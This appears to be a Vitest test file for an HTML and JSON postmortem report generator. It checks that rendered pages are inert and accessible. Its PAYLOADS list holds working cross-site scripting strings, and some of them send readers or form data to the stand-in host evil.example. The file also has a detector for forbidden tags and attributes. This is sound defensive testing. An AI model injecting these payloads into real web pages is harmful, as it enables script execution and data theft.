import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { narrativeOf } from '../../../src/core/documents/documents.ts';
import { buildPostmortem } from '../../../src/core/documents/postmortem.ts';
import type { RecordedEvent } from '../../../src/core/events.ts';
import { postmortemJson } from '../../../src/core/report/postmortem-json.ts';
import { postmortemPage } from '../../../src/core/report/postmortem-page.ts';
import { hostileEvents, openedOnly, sampleEvents, sampleOf } from '../../support/sample-incident.ts';

type Element = DefaultTreeAdapterTypes.Element;

/** Every element of a page as a browser reads it. */
function elementsOf(page: string): Element[] {
  const walk = (node: DefaultTreeAdapterTypes.Node): Element[] => [
    ...('tagName' in node ? [node] : []),
    ...('childNodes' in node ? node.childNodes.flatMap(walk) : []),
  ];
  return walk(parse(page));
}
const attr = (element: Element, name: string) => element.attrs.find((one) => one.name === name)?.value;
const textOf = (element: Element): string =>
  element.childNodes
    .map((node) => ('value' in node ? node.value : 'tagName' in node ? textOf(node) : ''))
    .join('');
const shapeOf = (page: string) => elementsOf(page).map(({ tagName }) => tagName);

const docOf = (events: readonly RecordedEvent[]) => {
  const { incident, view } = sampleOf(events);
  return buildPostmortem(incident, narrativeOf(incident), view);
};
const pageOf = (events: readonly RecordedEvent[], prose: Record<string, string> = {}) =>
  postmortemPage({ doc: docOf(events), prose: new Map(Object.entries(prose)) });

/** Elements that a page of ours has: nothing that runs, loads or sends. */
const ALLOWED =
  'html head meta title style body a header h1 h2 h3 p main footer div table caption thead tbody tr th td ul li strong span code br svg rect line text figure figcaption'.split(
    ' ',
  );

/** What must hold of any page, whatever was recorded. */
function harmsIn(page: string): string[] {
  return elementsOf(page).flatMap((element) => [
    ...(ALLOWED.includes(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...element.attrs.flatMap(({ name, value }) => [
      ...(/^on/i.test(name) ? [`${element.tagName} ${name}`] : []),
      ...(/^(?:src|srcset|srcdoc|action|formaction|ping|data|poster|background|xlink:href|style)$/.test(name)
        ? [`${element.tagName} ${name}`]
        : []),
      ...(name === 'href' && !/^#[\w-]+$/.test(value) ? [`href ${value}`] : []),
    ]),
    ...(element.tagName === 'style' && /url\(|@import|expression/i.test(textOf(element))
      ? ['style loads']
      : []),
  ]);
}

const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<!--><script>alert(1)</script>-->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '\u202Egnp.exe <b>x</b>',
  '\u0000<script\u0000>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '</td></tr></table><form action=https://evil.example><input name=a>',
  '@import url(https://evil.example/a.css);',
  'x'.repeat(50_000),
  '```mermaid\ngantt\nclick a href "javascript:alert(1)"\n```',
];

const sayEverywhere = (payload: string): RecordedEvent[] =>
  sampleEvents().map((event) => ({
    ...event,
    text: payload,
    evidence: event.evidence.map(() => payload),
    by: { ...event.by, name: payload },
    data: Object.fromEntries(
      Object.entries(event.data).map(([key, value]) => [
        key,
        typeof value === 'string' && /^(?:title|description|value|person|owner|reason|branch|url)$/.test(key)
          ? payload
          : value,
      ]),
    ) as never,
  }));

describe('the page of a postmortem', () => {
  const page = pageOf(sampleEvents(), { trigger: 'Ours, by hand.' });
  const elements = elementsOf(page);
  const all = (tag: string) => elements.filter(({ tagName }) => tagName === tag);

  it.each(PAYLOADS)('keeps %s inert wherever it is said', (payload) => {
    const hostile = pageOf(sayEverywhere(payload), { '': payload, trigger: payload, gone: payload });
    expect(harmsIn(hostile)).toEqual([]);
    // The structure does not move: only the number of written-out lines may differ, and nothing here has two.
    const tame = pageOf(sayEverywhere('x'), { '': 'x', trigger: 'x', gone: 'x' });
    if (!payload.includes('\n')) expect(shapeOf(hostile)).toEqual(shapeOf(tame));
    expect(hostile).not.toContain('\u202e');
  });

  it.each([sampleEvents, openedOnly, hostileEvents])(
    'holds nothing that runs, loads or leads away',
    (story) => {
      expect(harmsIn(pageOf(story()))).toEqual([]);
    },
  );

  it('forbids the browser everything but its own style sheet', () => {
    const policy = all('meta').find((meta) => attr(meta, 'http-equiv') === 'Content-Security-Policy');
    expect(attr(policy as Element, 'content')).toContain("default-src 'none'; style-src 'unsafe-inline'");
    expect(page.indexOf('Content-Security-Policy')).toBeLessThan(page.indexOf('<style>'));
    expect(page).not.toMatch(/https?:(?!\/\/grafana\.example)/);
  });

  it('can be read by everybody: language, headings in order, named tables and chart', () => {
    expect(attr(all('html')[0] as Element, 'lang')).toBe('en');
    const levels = elements.flatMap(({ tagName }) => (/^h[1-6]$/.test(tagName) ? [Number(tagName[1])] : []));
    expect(levels.filter((level) => level === 1)).toHaveLength(1);
    for (const [i, level] of levels.entries()) expect(level - (levels[i - 1] ?? 0)).toBeLessThanOrEqual(1);
    for (const head of all('th')) expect(attr(head, 'scope')).toMatch(/^(?:col|row)$/);
    expect(all('caption')).toHaveLength(all('table').length);
    for (const svg of all('svg')) expect(attr(svg, 'aria-label')).toBeTruthy();
    const ids = elements.flatMap((element) => attr(element, 'id') ?? []);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('prints, and follows the light or dark of the reader', () => {
    expect(page).toContain('@media print');
    expect(page).toContain('@media (prefers-color-scheme: dark)');
  });

  it('says in every section what post-mortem.md says', () => {
    const doc = docOf(sampleEvents());
    const text = textOf(all('body')[0] as Element);
    for (const { title, items, table } of doc.sections) {
      expect(text).toContain(title);
      for (const item of items) expect(text).toContain(item.text);
      for (const cell of table?.rows.flatMap(({ cells }) => cells) ?? []) expect(text).toContain(cell);
    }
    expect(text).toContain('Ours, by hand.');
  });

  it('leads from a statement to the event it comes from', () => {
    const links = all('a').filter((link) => attr(link, 'class') === 'ref');
    expect(links.length).toBeGreaterThan(40);
    const ids = new Set(elements.flatMap((element) => attr(element, 'id') ?? []));
    for (const link of links) expect(ids).toContain(attr(link, 'href')?.slice(1));
  });

  it('draws the phases to scale and says of a missing one why', () => {
    const bars = all('rect').filter((rect) => attr(rect, 'class')?.startsWith('bar'));
    const widths = bars.map((bar) => Number(attr(bar, 'width')));
    expect(widths).toHaveLength(4);
    const [detect = 0, mitigate = 0, repair = 0] = widths;
    expect(mitigate / detect).toBeCloseTo(20 / 16, 1);
    expect(repair / detect).toBeCloseTo(32 / 16, 1);
    const without = pageOf(sampleEvents().filter(({ kind }) => kind !== 'deployed'));
    expect(without).toContain('nobody recorded &quot;fix deployed&quot;');
    const none = pageOf(openedOnly());
    expect(none).not.toContain('<svg');
    expect(none).toContain('there is nothing to draw');
  });
});

describe('the JSON of a postmortem', () => {
  it('carries format, statements with their events, findings and prose', () => {
    const doc = docOf(sampleEvents());
    const findings = [{ level: 'note' as const, where: 'x', text: 'y' }];
    const json = JSON.parse(JSON.stringify(postmortemJson(doc, findings, new Map([['trigger', 'ours']]))));
    expect(json).toMatchObject({
      format: 'hotfix-pulse/postmortem',
      v: 1,
      label: 'hotfix-001',
      severity: 'P1',
    });
    expect(json).toMatchObject({ findings, prose: { trigger: 'ours' }, event_count: doc.event_count });
    expect(json.course[0]).toMatchObject({ name: 'detect', ms: 16 * 60_000, why: null });
    const timeline = json.sections.find(({ id }: { id: string }) => id === 'timeline');
    expect(timeline.table.rows).toHaveLength(doc.event_count);
    for (const row of timeline.table.rows) expect(row.events).toHaveLength(1);
  });
});
